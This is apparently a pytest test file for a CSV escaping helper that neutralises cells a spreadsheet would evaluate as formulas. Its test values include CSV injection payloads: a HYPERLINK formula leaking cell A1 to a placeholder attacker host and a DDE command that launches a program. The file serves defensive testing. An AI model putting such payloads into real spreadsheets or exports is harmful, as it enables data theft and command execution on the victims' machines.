"""CSV cells that a spreadsheet would run as formulas are written as text."""

import csv
import io

import pytest

from lifeline.core.csvsafe import csv_text, safe_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_it_defuses_formula_cells(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["KK Park", "", "a=b", 42, -3, 1.5, None, "金木棉"])
def test_it_leaves_data_alone(value):
    assert safe_cell(value) == value


def test_it_writes_a_whole_document_safely():
    text = csv_text(["=name", "count"], [["=cmd|' /C calc'!A0", 3], ["Shwe Kokko", -1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=name", "count"], ["'=cmd|' /C calc'!A0", "3"], ["Shwe Kokko", "-1"]]
